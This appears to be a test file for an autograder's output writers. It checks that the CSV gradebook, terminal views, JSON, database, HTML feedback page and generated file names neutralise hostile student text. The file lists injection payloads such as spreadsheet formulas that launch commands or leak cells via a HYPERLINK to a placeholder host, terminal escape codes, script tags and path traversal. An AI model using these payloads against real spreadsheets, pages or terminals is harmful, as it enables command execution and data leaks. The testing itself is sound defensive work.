@@ -1,0 +1,161 @@
+"""Names, messages and comments made to attack whoever opens the results: every writer."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import unicodedata
+from datetime import UTC, datetime
+from decimal import Decimal
+from functools import cache
+from pathlib import Path
+
+from rich.console import Console, RenderableType
+
+from autograder.assignment.model import Assignment
+from autograder.gradebook.export import gradebook_csv
+from autograder.gradebook.grade import Grade, HandIn
+from autograder.gradebook.points import points, unscored
+from autograder.gradebook.result import read_result, result_json
+from autograder.gradebook.store import GradeStore
+from autograder.gradebook.summary import summary_json
+from autograder.gradebook.visible import visible
+from autograder.judging.verdict import Mismatch, Status, Verdict
+from autograder.notebook.students import safe_name, student_id
+from autograder.reports.feedback.feedback import feedback
+from autograder.reports.feedback.page import feedback_page
+from autograder.reports.terminal.grades import class_table, student_view
+
+SPEC = Assignment.model_validate(
+    {
+        "format": 1, "id": "a1", "title": "First",
+        "exercise": [
+            {"id": "e", "title": "About e", "defines": ["x"], "check": [
+                {"id": "c", "title": "About c", "points": Decimal(1), "kind": "value", "name": "x",
+                 "public": True},
+            ]},
+        ],
+    }
+)  # fmt: skip
+SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
+FORMULA = "=cmd|' /C calc'!A0"
+NAMES = [
+    *(f"{blank}{sign}1+1" for sign in SIGNS for blank in ("", " ", "\t", "\xa0", "\u3000", "\r\n")),
+    *(f"x{split}{sign}1" for sign in SIGNS for split in (";", "; ", ';"', ',"', "\n", "\t", ";\t")),
+    FORMULA, f'"{FORMULA}"', f"x;{FORMULA}", f'x;"{FORMULA}"', f'",{FORMULA},"', f'";{FORMULA};"',
+    '=HYPERLINK("http://x.y?"&A1,"ok")', "a;;=1", "a;';=1", "@SUM(1)", "-2+3+cmd", "+1;-1;=1",
+    "\x1b[2J\x1b]0;owned\x07", "\x9b31m", "\x00", "\x08\x08", "\u202egnp.exe", "\u2066a\u2069",
+    "\u200b=1", "\ufeff=1", "\u3164", "\u115f\u1160", "\U000e0041", "\u2028\u2029", "\ud800",
+    "\udcff",
+    "[bold]x[/bold]", "[link=http://x]y[/link]", ":warning:", "{{7*7}}", "%s%n", "{0}", "\\x1b",
+    "<b onclick=x>", "&lt;script&gt;", "'\"><script>x</script>", "../../etc/passwd", "con", "-rf",
+    "",
+]  # fmt: skip
+FORBIDDEN = {chr(n) for n in (*range(0x20), *range(0x7F, 0xA0), 0x61C, *range(0x200E, 0x2010),
+             *range(0x2028, 0x202F), *range(0x2066, 0x206A), 0xFEFF, 0x3164)} - {"\n"}  # fmt: skip
+
+
+@cache
+def hostile(text: str) -> tuple[Grade, ...]:
+    """The text wherever a grade can hold what a student wrote: rejected, and graded."""
+    hand_in = HandIn(text, "0", (text,))
+    differs = Mismatch(text, "value", text, text, (text, 1))
+    verdict = Verdict(
+        "e", "c", "value", True, Status.RAISED, 0, 1000, text, (differs,), diagnosis=text
+    )
+    return (
+        unscored(SPEC, hand_in, student=text, status="rejected", reason=text),
+        points(SPEC, hand_in, [verdict], None, student=f"{text} 2"),
+        points(SPEC, hand_in, [], None, student=f"{text} 3"),
+    )
+
+
+def runs(cell: str) -> bool:
+    """Whether a spreadsheet would take a cell for a formula."""
+    return cell.strip().startswith(tuple(SIGNS))
+
+
+def test_no_cell_of_the_gradebook_is_a_formula_however_it_is_split() -> None:
+    for text in NAMES:
+        data = gradebook_csv(hostile(text)).decode("utf-8")
+        rows = list(csv.reader(io.StringIO(data)))
+        assert [len(row) for row in rows] == [7] * 4, repr(text)
+        assert data.count("\n") == 4, repr(text)
+        assert not set(data) & FORBIDDEN, repr(text)
+        assert not any(runs(cell) for row in rows for cell in row), repr(text)
+        for line in data.splitlines():  # a program that splits at semicolons, quoted or not
+            assert not any(runs(cell.replace('"', "")) for cell in line.split(";")), repr(text)
+            split = csv.reader([line], delimiter=";")
+            assert not any(runs(cell) for row in split for cell in row), repr(text)
+
+
+def test_a_plain_writer_would_fail_these_tests() -> None:
+    assert all(runs(name) for name in NAMES[: 6 * len(SIGNS)])
+    assert any(runs(cell) for cell in f"x;{FORMULA}".split(";"))
+
+
+def shown(view: RenderableType) -> str:
+    console = Console(width=200, file=io.StringIO(), force_terminal=True, color_system=None)
+    console.print(view)
+    assert isinstance(console.file, io.StringIO)
+    return console.file.getvalue()
+
+
+def test_nothing_reaches_the_terminal_but_what_can_be_seen() -> None:
+    for text in NAMES:
+        grades = hostile(text)
+        said = [shown(class_table(grades)), *(shown(student_view(grade)) for grade in grades)]
+        for part in said:
+            assert not set(part) & FORBIDDEN, part
+            part.encode()
+        if text.startswith(("[", ":", "{", "%")):
+            assert all(text in part for part in said[1:]), text  # as it is, and not as a style
+
+
+def test_json_keeps_the_text_as_it_was() -> None:
+    escaped = {sign for sign in FORBIDDEN if sign < "\x7f"}
+    for text in NAMES:
+        grades = hostile(text)
+        for grade in grades:
+            data = result_json(grade)
+            assert json.loads(data)["student"] == grade.student
+            assert result_json(read_result(data)) == data
+            assert not set(data.decode("utf-8")) & escaped
+        json.loads(summary_json(grades))
+
+
+def test_the_database_keeps_the_text_as_it_was(tmp_path: Path) -> None:
+    grades = [grade for text in NAMES for grade in hostile(text)]
+    with GradeStore(tmp_path / "grades.db") as store:
+        for text in NAMES:
+            run = store.begin_run(
+                assignment="a1",
+                seed=1,
+                command=visible(text),
+                versions={},
+                started_at=datetime(2025, 1, 1, tzinfo=UTC),
+            )
+            store.record_all(run, hostile(text))
+        kept = [grade.student for grade in store.latest("a1")]
+        assert sorted(kept) == sorted(grade.student for grade in grades)
+
+
+def test_the_page_shows_the_text_and_is_not_written_by_it() -> None:
+    for grade in (grade for text in NAMES for grade in hostile(text)):
+        page = feedback_page(feedback(grade, SPEC), None, {})
+        page.encode()
+        assert not set(page) & (FORBIDDEN - {"\t", "\r"})
+        assert "<script" not in page
+        assert "<b onclick" not in page
+        assert "49" not in page.partition("<body>")[2]
+
+
+def test_ids_and_file_names_made_of_it_are_harmless() -> None:
+    for text in NAMES:
+        id_ = student_id(text)
+        assert not any(unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") for c in id_)
+        for name in (safe_name(text), safe_name(id_)):
+            assert name and not set(name) & set('/\\:*?"<>|\0')
+            assert not name.startswith((".", "-"))
+            assert len(name.encode()) <= 80
